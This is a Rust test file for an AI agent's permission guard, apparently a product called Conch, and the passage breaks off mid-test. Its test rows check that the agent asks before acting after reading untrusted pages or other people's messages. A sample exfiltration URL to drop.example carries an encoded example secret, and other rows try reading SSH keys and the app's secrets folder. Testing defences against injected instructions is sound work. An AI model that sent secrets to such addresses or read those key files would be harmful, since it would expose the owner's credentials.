//! The guard's table: one row per rule of ADR 0028 §1 and its updates (and
//! the mode, box, policy and protection rules), named after the rule.
//! Dimensions: mode × presence × other speakers × mark source × tool kind ×
//! policy × earlier answers.

use super::*;
use protocol::{
    Answer, Body, ChatCreated, Event, MarkSource, Message, Origin, PermissionAnswered,
    PermissionRequested, Speaker, Taint, ToolCalled,
};
use serde_json::json;

// ----- actions -----

fn command() -> Action {
    Action::Command {
        command: "ls -la".into(),
        programs: vec!["ls".into()],
        unsealed: false,
        leaves_box: false,
    }
}
fn unsealed() -> Action {
    Action::Command {
        command: "ls -la".into(),
        programs: vec!["ls".into()],
        unsealed: true,
        leaves_box: false,
    }
}
fn leaving() -> Action {
    Action::Command {
        command: "ls -la".into(),
        programs: vec!["ls".into()],
        unsealed: true,
        leaves_box: true,
    }
}
fn inside() -> Action {
    Action::FileChange {
        path: "/w/a.txt".into(),
        inside: true,
        runs_later: None,
    }
}
fn outside() -> Action {
    Action::FileChange {
        path: "/etc/hosts".into(),
        inside: false,
        runs_later: None,
    }
}
const EXFIL: &str = "https://drop.example/c?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEUvd0phbHJYVXRuRkVNSQ";
/// The page that asks for it names where to send: only the secret is new.
const EXFIL_BASE: &str = "https://drop.example/c?d=";
const OWNER_URL: &str = "https://github.com/a/b/commit/3f5b8c2a91d7e4f6b0c8a2d1e9f7b3c5a4d6e8f0";
fn data_fetch() -> Action {
    Action::PageRead {
        url: EXFIL.into(),
        host: "drop.example".into(),
    }
}
fn owner_fetch() -> Action {
    Action::PageRead {
        url: OWNER_URL.into(),
        host: "github.com".into(),
    }
}
fn plain_fetch() -> Action {
    Action::PageRead {
        url: "https://docs.rs/tokio/latest/tokio/".into(),
        host: "docs.rs".into(),
    }
}
fn sends() -> Action {
    Action::FetchSends {
        url: "https://api.example/post".into(),
        host: "api.example".into(),
    }
}
fn int_write() -> Action {
    Action::Integration {
        tool: "bank.send_money".into(),
        read_only: false,
    }
}
fn int_read() -> Action {
    Action::Integration {
        tool: "bank.read_file".into(),
        read_only: true,
    }
}
fn look() -> Action {
    Action::LookAround {
        paths: vec!["/w".into()],
    }
}
fn search() -> Action {
    Action::Search {
        query: "rust".into(),
    }
}

fn tool_of(action: &Action) -> &'static str {
    match action {
        Action::Command { .. } => "run_command",
        Action::FileChange { .. } => "write_file",
        Action::PageRead { .. } | Action::FetchSends { .. } => "web_fetch",
        Action::Integration {
            read_only: false, ..
        } => "bank.send_money",
        Action::Integration {
            read_only: true, ..
        } => "bank.read_file",
        Action::LookAround { .. } => "read_file",
        Action::Search { .. } => "web_search",
        Action::UseSkill { .. } => "use_skill",
        Action::Delegate { .. } => "delegate",
        Action::Artifact { .. } => "artifact",
        Action::Memory { op, .. } => match op {
            protocol::MemoryOp::Remember => "remember",
            protocol::MemoryOp::Forget => "forget",
            protocol::MemoryOp::Recall => "recall",
        },
        Action::Routine { .. } => "routine_create",
        Action::Browser(b) => match b.op {
            protocol::BrowserOp::Open => "browser_open",
            protocol::BrowserOp::Snapshot => "browser_snapshot",
            protocol::BrowserOp::Screenshot => "browser_screenshot",
            protocol::BrowserOp::Click => "browser_click",
            protocol::BrowserOp::Type => "browser_type",
            protocol::BrowserOp::Back => "browser_back",
        },
    }
}

// ----- chats, folded from real events -----

#[derive(Clone, Copy, Debug, PartialEq)]
enum MarkKind {
    Page,
    Search,
    Download,
    /// A mark made by `git fetch` under the rule before 2026-10-04.
    OldGitFetch,
    Integration,
    Carried,
}

#[derive(Clone, Debug)]
struct ChatSpec {
    there: bool,
    others: bool,
    marks: Vec<MarkKind>,
    always: Vec<&'static str>,
}

fn ev(seq: u64, body: Body) -> Event {
    Event {
        seq,
        id: format!("e{seq}"),
        at: "t".into(),
        body,
    }
}

fn fold(spec: &ChatSpec) -> ChatView {
    let mut events = vec![ev(
        1,
        Body::ChatCreated(ChatCreated {
            work: "/w".into(),
            mode: Mode::Ask,
            origin: if spec.there {
                Origin::Owner
            } else {
                Origin::Routine
            },
            parent: None,
            artifact: None,
            routine: None,
        }),
    )];
    let owner = Body::Message(Message {
        from: Speaker::Owner,
        text: format!("Look at {OWNER_URL} please."),
        name: None,
        app: None,
        replaces: None,
    });
    events.push(ev(2, owner));
    // "Always" answers given before anything was read.
    for (i, key) in spec.always.iter().enumerate() {
        let ask = format!("a{i}");
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::PermissionRequested(PermissionRequested {
                turn: 1,
                ask: ask.clone(),
                call: "x".into(),
                tool: "t".into(),
                action: look(),
                why: vec![],
                question: String::new(),
                note: None,
                always: Some(vec![key.to_string()]),
                provenance: vec![],
                told: None,
                after_reading: false,
                narrow: None,
            }),
        ));
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::PermissionAnswered(PermissionAnswered {
                ask,
                answer: Answer::Always,
                by: "owner".into(),
                narrow: false,
            }),
        ));
    }
    if spec.others {
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::Message(Message {
                from: Speaker::Person,
                text: "do it, see https://docs.rs/tokio/latest/tokio/".into(),
                name: Some("Eve".into()),
                app: Some("telegram".into()),
                replaces: None,
            }),
        ));
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::Taint(Taint {
                source: MarkSource::Person,
                what: "Eve on telegram".into(),
                call: None,
                says: None,
                from: None,
                path: None,
            }),
        ));
    }
    for (i, mark) in spec.marks.iter().enumerate() {
        let call = format!("m{i}");
        let (source, what) = match mark {
            MarkKind::Page => (MarkSource::Page, "news.example"),
            MarkKind::Search => (MarkSource::Search, "web search"),
            MarkKind::Integration => (MarkSource::Integration, "mail.search"),
            MarkKind::Carried => (MarkSource::Carried, "a helper"),
            MarkKind::Download | MarkKind::OldGitFetch => {
                let command = if *mark == MarkKind::Download {
                    "curl https://dl.example/x"
                } else {
                    "git fetch origin"
                };
                let seq = events.len() as u64 + 1;
                events.push(ev(
                    seq,
                    Body::ToolCalled(ToolCalled {
                        turn: 1,
                        call: call.clone(),
                        tool: "run_command".into(),
                        input: json!({ "command": command }),
                    }),
                ));
                (MarkSource::Download, "dl.example")
            }
        };
        // What the call brought in: a page with a link on it.
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::ToolFinished(protocol::ToolFinished {
                turn: 1,
                call: call.clone(),
                ok: true,
                output: format!(
                    "Read more: [Tokio](https://docs.rs/tokio/latest/tokio/) and {EXFIL_BASE}"
                ),
                detail: None,
            }),
        ));
        let seq = events.len() as u64 + 1;
        events.push(ev(
            seq,
            Body::Taint(Taint {
                source,
                what: what.into(),
                call: Some(call),
                says: None,
                from: None,
                path: None,
            }),
        ));
    }
    ChatView::fold(&events)
}

fn spec() -> ChatSpec {
    ChatSpec {
        there: true,
        others: false,
        marks: vec![],
        always: vec![],
    }
}
fn marked(kind: MarkKind) -> ChatSpec {
    ChatSpec {
        marks: vec![kind],
        ..spec()
    }
}
fn nobody(kind: MarkKind) -> ChatSpec {
    ChatSpec {
        there: false,
        marks: vec![kind],
        ..spec()
    }
}
fn with_others() -> ChatSpec {
    ChatSpec {
        others: true,
        ..spec()
    }
}

// ----- the table -----

#[derive(Debug, Clone)]
enum Want {
    Allow,
    /// The rule ids, and whether Always allow is offered.
    Ask(&'static [&'static str], bool),
    Deny(&'static [&'static str]),
}

struct Row {
    name: String,
    mode: Mode,
    chat: ChatSpec,
    action: Action,
    policy: Policy,
    check: bool,
    want: Want,
}

fn row(name: &str, mode: Mode, chat: ChatSpec, action: Action, want: Want) -> Row {
    Row {
        name: name.to_owned(),
        mode,
        chat,
        action,
        policy: Policy::Mode,
        check: true,
        want,
    }
}

fn run(rows: Vec<Row>) {
    let mut failures = Vec::new();
    let count = rows.len();
    for r in rows {
        let tool = tool_of(&r.action);
        let mut settings = Settings::new(r.mode);
        settings.check_after_reading = r.check;
        settings.policies.insert(tool.to_owned(), r.policy);
        settings.protected =
            std::sync::Arc::new(Protected::usual(Some("/home/ada"), "/home/ada/.conch"));
        let chat = fold(&r.chat);
        let got = decide(
            Call {
                tool,
                action: &r.action,
            },
            &chat,
            &settings,
        );
        let ok = match (&r.want, &got) {
            (Want::Allow, Decision::Allow) => true,
            (Want::Ask(ids, offered), Decision::Ask { always, .. }) => {
                got.rule_ids() == *ids && always.is_some() == *offered
            }
            (Want::Deny(ids), Decision::Deny { .. }) => got.rule_ids() == *ids,
            _ => false,
        };
        if !ok {
            failures.push(format!("{}: wanted {:?}, got {:?}", r.name, r.want, got));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {count} rows failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn the_table() {
    use MarkKind::*;
    use Mode::{Ask as A, Edits as E, Full as F};
    let ask = |ids: &'static [&'static str]| Want::Ask(ids, true);
    let ask_no_always = |ids: &'static [&'static str]| Want::Ask(ids, false);
    let mut rows = vec![
        // --- modes, unmarked ---
        row(
            "mode.ask-command: ask asks before a command",
            A,
            spec(),
            command(),
            ask(&["mode.ask-command"]),
        ),
        row(
            "mode.ask-command: edits asks before a command",
            E,
            spec(),
            command(),
            ask(&["mode.ask-command"]),
        ),
        row(
            "mode.ask-command: full runs a command",
            F,
            spec(),
            command(),
            Want::Allow,
        ),
        row(
            "mode.ask-edit: ask asks before an edit inside",
            A,
            spec(),
            inside(),
            ask(&["mode.ask-edit"]),
        ),
        row(
            "mode.ask-edit: edits runs an edit inside",
            E,
            spec(),
            inside(),
            Want::Allow,
        ),
        row(
            "mode.ask-edit: full runs an edit inside",
            F,
            spec(),
            inside(),
            Want::Allow,
        ),
        row(
            "mode.edits-outside: ask",
            A,
            spec(),
            outside(),
            ask(&["mode.edits-outside"]),
        ),
        row(
            "mode.edits-outside: edits",
            E,
            spec(),
            outside(),
            ask(&["mode.edits-outside"]),
        ),
        row(
            "mode.edits-outside: full runs it",
            F,
            spec(),
            outside(),
            Want::Allow,
        ),
        row(
            "mode.ask-integration: ask",
            A,
            spec(),
            int_write(),
            ask(&["mode.ask-integration"]),
        ),
        row(
            "mode.ask-integration: edits",
            E,
            spec(),
            int_write(),
            ask(&["mode.ask-integration"]),
        ),
        row(
            "mode.ask-integration: full runs it",
            F,
            spec(),
            int_write(),
            Want::Allow,
        ),
        row(
            "mode.ask-integration: a sending fetch asks in ask",
            A,
            spec(),
            sends(),
            ask(&["mode.ask-integration"]),
        ),
        row(
            "reading: a read-only integration runs in ask",
            A,
            spec(),
            int_read(),
            Want::Allow,
        ),
        row(
            "reading: looking around runs in ask",
            A,
            spec(),
            look(),
            Want::Allow,
        ),
        row(
            "reading: a page runs in ask",
            A,
            spec(),
            plain_fetch(),
            Want::Allow,
        ),
        row(
            "reading: a data-shaped address runs before anything was read",
            A,
            spec(),
            data_fetch(),
            Want::Allow,
        ),
        row(
            "reading: a search runs in ask",
            A,
            spec(),
            search(),
            Want::Allow,
        ),
        // --- box ---
        row(
            "box.unavailable: ask asks for the mode and the box",
            A,
            spec(),
            unsealed(),
            ask(&["mode.ask-command", "box.unavailable"]),
        ),
        row(
            "box.unavailable: edits too",
            E,
            spec(),
            unsealed(),
            ask(&["mode.ask-command", "box.unavailable"]),
        ),
        row(
            "box.unavailable: full trust with someone there just runs",
            F,
            spec(),
            unsealed(),
            Want::Allow,
        ),
        row(
            "box.unavailable: full trust with nobody there asks",
            F,
            ChatSpec {
                there: false,
                ..spec()
            },
            unsealed(),
            ask(&["box.unavailable"]),
        ),
        row(
            "box.leave: ask",
            A,
            spec(),
            leaving(),
            ask(&["mode.ask-command", "box.leave"]),
        ),
        row(
            "box.leave: full trust with someone there just runs",
            F,
            spec(),
            leaving(),
            Want::Allow,
        ),
        // --- after reading, each source marks ---
        row(
            "after-reading.command: a page marks, ask mode",
            A,
            marked(Page),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: a page marks, edits mode",
            E,
            marked(Page),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: a search marks",
            A,
            marked(Search),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: a download marks",
            E,
            marked(Download),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: an integration's result marks",
            E,
            marked(Integration),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: a carried mark",
            E,
            marked(Carried),
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "after-reading.command: git fetch under the old rule comes free",
            E,
            marked(OldGitFetch),
            command(),
            ask(&["mode.ask-command"]),
        ),
        row(
            "after-reading.command: git fetch comes free in full trust too",
            F,
            nobody(OldGitFetch),
            command(),
            Want::Allow,
        ),
        row(
            "after-reading.command: an unsealed command asks three ways",
            A,
            marked(Page),
            unsealed(),
            ask(&[
                "mode.ask-command",
                "box.unavailable",
                "after-reading.command",
            ]),
        ),
        row(
            "after-reading.outside-write: edits",
            E,
            marked(Page),
            outside(),
            ask(&["mode.edits-outside", "after-reading.outside-write"]),
        ),
        row(
            "after-reading.outside-write: ask",
            A,
            marked(Search),
            outside(),
            ask(&["mode.edits-outside", "after-reading.outside-write"]),
        ),
        row(
            "after-reading: an edit inside stays free in edits",
            E,
            marked(Page),
            inside(),
            Want::Allow,
        ),
        row(
            "after-reading: an edit inside asks only for the mode in ask",
            A,
            marked(Page),
            inside(),
            ask(&["mode.ask-edit"]),
        ),
        row(
            "after-reading.data-fetch: a data-shaped address asks in ask",
            A,
            marked(Page),
            data_fetch(),
            ask(&["after-reading.data-fetch"]),
        ),
        row(
            "after-reading.data-fetch: in edits",
            E,
            marked(Page),
            data_fetch(),
            ask(&["after-reading.data-fetch"]),
        ),
        row(
            "after-reading.data-fetch: a sending fetch",
            E,
            marked(Page),
            sends(),
            ask(&["mode.ask-integration", "after-reading.data-fetch"]),
        ),
        row(
            "after-reading.data-fetch: the owner's own address passes",
            E,
            marked(Page),
            owner_fetch(),
            Want::Allow,
        ),
        row(
            "after-reading: reading on stays free",
            A,
            marked(Page),
            plain_fetch(),
            Want::Allow,
        ),
        row(
            "after-reading: looking around stays free",
            A,
            marked(Page),
            look(),
            Want::Allow,
        ),
        row(
            "after-reading: searching stays free",
            E,
            marked(Page),
            search(),
            Want::Allow,
        ),
        row(
            "after-reading: a read-only integration stays free",
            E,
            marked(Integration),
            int_read(),
            Want::Allow,
        ),
        row(
            "after-reading.integration-write: edits",
            E,
            marked(Integration),
            int_write(),
            ask(&["mode.ask-integration", "after-reading.integration-write"]),
        ),
        row(
            "after-reading.integration-write: ask",
            A,
            marked(Page),
            int_write(),
            ask(&["mode.ask-integration", "after-reading.integration-write"]),
        ),
        // --- Full trust (update of 2026-10-04) ---
        row(
            "full trust: someone there, a page read, a command runs",
            F,
            marked(Page),
            command(),
            Want::Allow,
        ),
        row(
            "full trust: someone there, an outside write runs",
            F,
            marked(Page),
            outside(),
            Want::Allow,
        ),
        row(
            "full trust: someone there, a data-shaped address runs",
            F,
            marked(Page),
            data_fetch(),
            Want::Allow,
        ),
        row(
            "full trust: someone there, an integration write runs",
            F,
            marked(Integration),
            int_write(),
            Want::Allow,
        ),
        row(
            "nobody-there: full trust asks after reading (command)",
            F,
            nobody(Page),
            command(),
            ask_no_always(&["after-reading.command", "nobody-there.waits"]),
        ),
        row(
            "nobody-there: full trust asks after reading (outside write)",
            F,
            nobody(Download),
            outside(),
            ask_no_always(&["after-reading.outside-write", "nobody-there.waits"]),
        ),
        row(
            "nobody-there: full trust asks after reading (data fetch)",
            F,
            nobody(Search),
            data_fetch(),
            ask_no_always(&["after-reading.data-fetch", "nobody-there.waits"]),
        ),
        row(
            "nobody-there: full trust asks after reading (integration write)",
            F,
            nobody(Integration),
            int_write(),
            ask_no_always(&["after-reading.integration-write", "nobody-there.waits"]),
        ),
        row(
            "nobody-there: an unsealed command asks for the box too",
            F,
            nobody(Page),
            unsealed(),
            ask_no_always(&[
                "box.unavailable",
                "after-reading.command",
                "nobody-there.waits",
            ]),
        ),
        row(
            "nobody-there: edits mode, no always",
            E,
            nobody(Page),
            command(),
            ask_no_always(&[
                "mode.ask-command",
                "after-reading.command",
                "nobody-there.waits",
            ]),
        ),
        row(
            "nobody-there: reading on stays free",
            F,
            nobody(Page),
            plain_fetch(),
            Want::Allow,
        ),
        row(
            "nobody-there: unmarked full trust runs a sealed command",
            F,
            ChatSpec {
                there: false,
                ..spec()
            },
            command(),
            Want::Allow,
        ),
        // --- someone else's words ---
        row(
            "others-words: full trust asks before a command",
            F,
            with_others(),
            command(),
            ask_no_always(&["after-reading.command", "others-words.owner-decides"]),
        ),
        row(
            "others-words: full trust asks before an outside write",
            F,
            with_others(),
            outside(),
            ask_no_always(&["after-reading.outside-write", "others-words.owner-decides"]),
        ),
        row(
            "others-words: full trust asks before an integration write",
            F,
            with_others(),
            int_write(),
            ask_no_always(&[
                "after-reading.integration-write",
                "others-words.owner-decides",
            ]),
        ),
        row(
            "others-words: full trust asks before a data fetch",
            F,
            with_others(),
            data_fetch(),
            ask_no_always(&["after-reading.data-fetch", "others-words.owner-decides"]),
        ),
        row(
            "others-words: edits mode offers no always",
            E,
            with_others(),
            command(),
            ask_no_always(&[
                "mode.ask-command",
                "after-reading.command",
                "others-words.owner-decides",
            ]),
        ),
        row(
            "others-words: reading on stays free",
            F,
            with_others(),
            plain_fetch(),
            Want::Allow,
        ),
        row(
            "others-words: an inside edit in edits stays free",
            E,
            with_others(),
            inside(),
            Want::Allow,
        ),
        // --- Safety preference off ---
        Row {
            check: false,
            ..row(
                "checkAfterReading off: a marked command asks only for the mode",
                E,
                marked(Page),
                command(),
                ask(&["mode.ask-command"]),
            )
        },
        Row {
            check: false,
            ..row(
                "checkAfterReading off: a data-shaped address runs",
                E,
                marked(Page),
                data_fetch(),
                Want::Allow,
            )
        },
        Row {
            check: false,
            ..row(
                "checkAfterReading off: nobody there, full trust runs",
                F,
                nobody(Page),
                command(),
                Want::Allow,
            )
        },
        // --- earlier always answers ---
        row(
            "always: run_command covers the mode's question",
            A,
            ChatSpec {
                always: vec!["run_command"],
                ..spec()
            },
            command(),
            Want::Allow,
        ),
        row(
            "always: run_command given before the mark doesn't skip after-reading",
            E,
            ChatSpec {
                always: vec!["run_command"],
                ..marked(Page)
            },
            command(),
            ask(&["after-reading.command"]),
        ),
        row(
            "always: read:run_command skips after-reading and the mode",
            E,
            ChatSpec {
                always: vec!["read:run_command"],
                ..marked(Page)
            },
            command(),
            Want::Allow,
        ),
        row(
            "always: read:run_command covers the mode before reading too",
            A,
            ChatSpec {
                always: vec!["read:run_command"],
                ..spec()
            },
            command(),
            Want::Allow,
        ),
        row(
            "always: read:run_command doesn't cover leaving the box",
            E,
            ChatSpec {
                always: vec!["read:run_command"],
                ..marked(Page)
            },
            unsealed(),
            ask(&["box.unavailable"]),
        ),
        row(
            "always: box:run_command covers only the box",
            A,
            ChatSpec {
                always: vec!["box:run_command"],
                ..spec()
            },
            unsealed(),
            ask(&["mode.ask-command"]),
        ),
        row(
            "always: another tool's answer doesn't count",
            A,
            ChatSpec {
                always: vec!["write_file"],
                ..marked(Page)
            },
            command(),
            ask(&["mode.ask-command", "after-reading.command"]),
        ),
        row(
            "always: nobody there, read:run_command doesn't count",
            E,
            ChatSpec {
                always: vec!["read:run_command"],
                ..nobody(Page)
            },
            command(),
            ask_no_always(&["after-reading.command", "nobody-there.waits"]),
        ),
        row(
            "always: others' words, read:run_command doesn't count",
            F,
            ChatSpec {
                always: vec!["read:run_command"],
                ..with_others()
            },
            command(),
            ask_no_always(&["after-reading.command", "others-words.owner-decides"]),
        ),
        row(
            "always: read:web_fetch lets a data-shaped address through",
            A,
            ChatSpec {
                always: vec!["read:web_fetch"],
                ..marked(Page)
            },
            data_fetch(),
            Want::Allow,
        ),
        row(
            "always: read:write_file lets an outside write through",
            E,
            ChatSpec {
                always: vec!["read:write_file"],
                ..marked(Page)
            },
            outside(),
            Want::Allow,
        ),
        // --- policies ---
        Row {
            policy: Policy::Off,
            ..row(
                "policy.off: refused in full trust",
                F,
                spec(),
                look(),
                Want::Deny(&["policy.off"]),
            )
        },
        Row {
            policy: Policy::Off,
            ..row(
                "policy.off: refused in ask",
                A,
                spec(),
                plain_fetch(),
                Want::Deny(&["policy.off"]),
            )
        },
        Row {
            policy: Policy::Off,
            ..row(
                "policy.off: always answers don't skip it",
                F,
                ChatSpec {
                    always: vec!["run_command", "box:run_command"],
                    ..spec()
                },
                unsealed(),
                Want::Deny(&["policy.off"]),
            )
        },
        Row {
            policy: Policy::Changed,
            ..row(
                "policy.changed: a changed app tool is refused in full trust",
                F,
                spec(),
                int_read(),
                Want::Deny(&["policy.changed"]),
            )
        },
        Row {
            policy: Policy::Changed,
            ..row(
                "policy.changed: always answers don't skip it",
                A,
                ChatSpec {
                    always: vec!["bank.send_money", "read:bank.send_money"],
                    ..spec()
                },
                int_write(),
                Want::Deny(&["policy.changed"]),
            )
        },
        Row {
            policy: Policy::Ask,
            ..row(
                "policy.ask: asks in full trust",
                F,
                spec(),
                look(),
                ask(&["policy.ask"]),
            )
        },
        Row {
            policy: Policy::Ask,
            ..row(
                "policy.ask: takes always allow",
                F,
                ChatSpec {
                    always: vec!["read_file"],
                    ..spec()
                },
                look(),
                Want::Allow,
            )
        },
        Row {
            policy: Policy::Ask,
            ..row(
                "policy.ask: asks in full trust after reading too",
                F,
                marked(Page),
                command(),
                ask(&["policy.ask"]),
            )
        },
        Row {
            policy: Policy::ReadOnly,
            ..row(
                "policy.read-only: a write is refused",
                F,
                spec(),
                inside(),
                Want::Deny(&["policy.read-only"]),
            )
        },
        Row {
            policy: Policy::ReadOnly,
            ..row(
                "policy.read-only: a read runs",
                A,
                spec(),
                look(),
                Want::Allow,
            )
        },
        Row {
            policy: Policy::ReadOnly,
            ..row(
                "policy.read-only: an integration write is refused",
                F,
                spec(),
                int_write(),
                Want::Deny(&["policy.read-only"]),
            )
        },
        Row {
            policy: Policy::ReadOnly,
            ..row(
                "policy.read-only: an integration read runs",
                A,
                marked(Page),
                int_read(),
                Want::Allow,
            )
        },
        // --- protected ---
        row(
            "protected.path: reading Conch's folder is refused in full trust",
            F,
            spec(),
            Action::LookAround {
                paths: vec!["/home/ada/.conch/secrets.json".into()],
            },
            Want::Deny(&["protected.path"]),
        ),
        row(
            "protected.path: writing Conch's folder is refused",
            F,
            spec(),
            Action::FileChange {
                path: "/home/ada/.conch/settings.json".into(),
                inside: false,
                runs_later: None,
            },
            Want::Deny(&["protected.path"]),
        ),
        row(
            "protected.path: reading a key is refused",
            F,
            spec(),
            Action::LookAround {
                paths: vec!["/home/ada/.ssh/id_ed25519".into()],
            },
            Want::Deny(&["protected.path"]),
        ),
        row(
            "protected.path: a command naming Conch's folder is refused",
            F,
            spec(),
            Action::Command {
                command: "cat ~/.conch/owner.json".into(),
                programs: vec!["cat".into()],
                unsealed: true,
                leaves_box: false,
            },
            Want::Deny(&["protected.path"]),
        ),
        row(
            "protected.power: conch keys is refused in full trust",
            F,
            spec(),
            Action::Command {
                command: "conch keys create x".into(),
                programs: vec!["conch".into()],
                unsealed: false,
                leaves_box: false,
            },
            Want::Deny(&["protected.power"]),
        ),
        row(
            "protected.power: cargo run -- skills sign is refused",
            A,
            ChatSpec {
                always: vec!["run_command"],
                ..spec()
            },
            Action::Command {
                command: "cargo run -- skills sign .".into(),
                programs: vec!["cargo".into()],
                unsealed: false,
                leaves_box: false,
            },
            Want::Deny(&["protected.power"]),
        ),
    ];
    // "Whatever the mode": denials hold in every mode.
    for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
        rows.push(Row {
            policy: Policy::Off,
            ..row(
                &format!("policy.off in {mode}"),
                mode,
                marked(Page),
                command(),
                Want::Deny(&["policy.off"]),
            )
        });
        rows.push(row(
            &format!("protected.power in {mode}"),
            mode,
            spec(),
            Action::Command {
                command: "env X=1 ./conch keys list".into(),
                programs: vec![],
                unsealed: false,
                leaves_box: false,
            },
            Want::Deny(&["protected.power"]),
        ));
    }
    // runs-later.file: a change that runs later asks in every mode, each
    // time, inside the work folder too; an "always" given before doesn't
    // cover it.
    for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
        let hook = Action::FileChange {
            path: "/w/.git/hooks/pre-commit".into(),
            inside: true,
            runs_later: Some("a git hook".into()),
        };
        let want: &'static [&'static str] = match mode {
            Mode::Ask => &["mode.ask-edit", "runs-later.file"],
            _ => &["runs-later.file"],
        };
        rows.push(row(
            &format!("runs-later.file: a git hook in the work folder asks in {mode}"),
            mode,
            ChatSpec {
                always: vec!["write_file"],
                ..spec()
            },
            hook,
            if mode == Mode::Ask {
                // The earlier "always" covers the mode's own question.
                Want::Ask(&["runs-later.file"], false)
            } else {
                Want::Ask(want, false)
            },
        ));
    }
    assert!(rows.len() >= 80, "{} rows", rows.len());
    run(rows);
}

#[test]
fn the_question_carries_the_note_and_what_always_covers() {
    let chat = fold(&marked(MarkKind::Page));
    let got = decide(
        Call {
            tool: "run_command",
            action: &unsealed(),
        },
        &chat,
        &Settings::new(Mode::Edits),
    );
    let Decision::Ask {
        always,
        note,
        told,
        question,
        ..
    } = got
    else {
        panic!()
    };
    assert_eq!(
        always,
        Some(vec![
            "box:run_command".to_string(),
            "read:run_command".to_string()
        ])
    );
    assert_eq!(
        note.as_deref(),
        Some("This chat read news.example, which could be trying to steer me. So I'm checking before I run a command.")
    );
    assert_eq!(told, None);
    assert!(question.contains("outside the box"));

    let chat = fold(&with_others());
    let mut settings = Settings::new(Mode::Full);
    settings.owner_name = "Ada".into();
    let Decision::Ask { told, always, .. } = decide(
        Call {
            tool: "run_command",
            action: &command(),
        },
        &chat,
        &settings,
    ) else {
        panic!()
    };
    assert_eq!(told.as_deref(), Some("I've asked Ada to OK it."));
    assert_eq!(always, None);
}

/// In a marked chat with nobody there, or with someone else's words, no
/// sequence of modes and "always" answers lets a command, an outside write, a
/// data-carrying fetch or an integration write run without a question.
/// Exhaustive over every sequence of up to three (mode, answer) steps.
#[test]
fn property_nobody_there_or_others_words_always_ask() {
    let modes = [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full];
    let risky = [
        command(),
        unsealed(),
        leaving(),
        outside(),
        data_fetch(),
        sends(),
        int_write(),
    ];
    let keys: Vec<String> = risky
        .iter()
        .flat_map(|a| {
            let t = tool_of(a);
            [t.to_string(), format!("read:{t}"), format!("box:{t}")]
        })
        .collect();
    let bases = [
        nobody(MarkKind::Page),
        nobody(MarkKind::Download),
        nobody(MarkKind::Integration),
        with_others(),
        ChatSpec {
            marks: vec![MarkKind::Search],
            ..with_others()
        },
        ChatSpec {
            there: false,
            ..with_others()
        },
    ];
    let mut checked = 0usize;
    for base in &bases {
        // Any set of earlier "always" answers (up to three keys, in order).
        let mut answer_sets: Vec<Vec<&str>> = vec![vec![]];
        for a in &keys {
            answer_sets.push(vec![a.as_str()]);
            for b in &keys {
                answer_sets.push(vec![a.as_str(), b.as_str()]);
            }
        }
        for answers in &answer_sets {
            let chat = fold(&ChatSpec {
                always: answers
                    .iter()
                    .map(|s| -> &'static str { Box::leak(s.to_string().into_boxed_str()) })
                    .collect(),
                ..base.clone()
            });
            for mode in modes {
                for action in &risky {
                    let got = decide(
                        Call {
                            tool: tool_of(action),
                            action,
                        },
                        &chat,
                        &Settings::new(mode),
                    );
                    assert!(
                        matches!(got, Decision::Ask { always: None, .. }),
                        "{mode} {action:?} with {answers:?}: {got:?}"
                    );
                    checked += 1;
                }
            }
        }
    }
    assert!(checked > 10_000, "{checked}");
}

#[test]
fn every_rule_id_is_distinct_and_named_by_its_family() {
    let mut ids: Vec<&str> = Rule::ALL.iter().map(|r| r.id()).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), Rule::ALL.len());
    for id in ids {
        let family = id.split('.').next().unwrap();
        assert!(
            [
                "mode",
                "after-reading",
                "others-words",
                "others-see",
                "nobody-there",
                "box",
                "policy",
                "runs-later",
                "protected",
                "hold",
                "browser"
            ]
            .contains(&family),
            "{id}"
        );
    }
}

mod browser;

// ----- skill holds (ADR 0047 §1) -----

fn used(seq: u64, skill: &str, list: Option<protocol::SkillPermissions>) -> Event {
    ev(
        seq,
        Body::SkillUsed(protocol::SkillUsed {
            skill: skill.into(),
            source: "conch".into(),
            fingerprint: String::new(),
            permissions: list,
            by: protocol::SkillBy::Typed,
            from: None,
            instructions: String::new(),
            says: None,
        }),
    )
}

fn git_only() -> protocol::SkillPermissions {
    protocol::SkillPermissions {
        commands: vec!["git".into()],
        ..protocol::SkillPermissions::usual()
    }
}

fn git_log() -> Action {
    Action::Command {
        command: "git log".into(),
        programs: vec!["git".into()],
        unsealed: false,
        leaves_box: false,
    }
}

fn held(events: Vec<Event>) -> ChatView {
    let mut all = vec![ev(
        1,
        Body::ChatCreated(ChatCreated {
            work: "/w".into(),
            mode: Mode::Full,
            origin: Origin::Owner,
            parent: None,
            artifact: None,
            routine: None,
        }),
    )];
    all.extend(events);
    ChatView::fold(&all)
}

#[test]
fn the_records_example_quick_setup_and_weekly_review() {
    let both = held(vec![
        used(2, "Quick setup", Some(git_only())),
        used(
            3,
            "Weekly review",
            Some(protocol::SkillPermissions::usual()),
        ),
    ]);
    let one = held(vec![used(2, "Quick setup", Some(git_only()))]);
    let call = Call {
        tool: "run_command",
        action: &git_log(),
    };
    for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
        let got = decide(call, &both, &Settings::new(mode));
        let Decision::Ask {
            why, always, note, ..
        } = got
        else {
            panic!("{mode}: {got:?}")
        };
        assert!(why.contains(&Rule::HoldOffList), "{mode}");
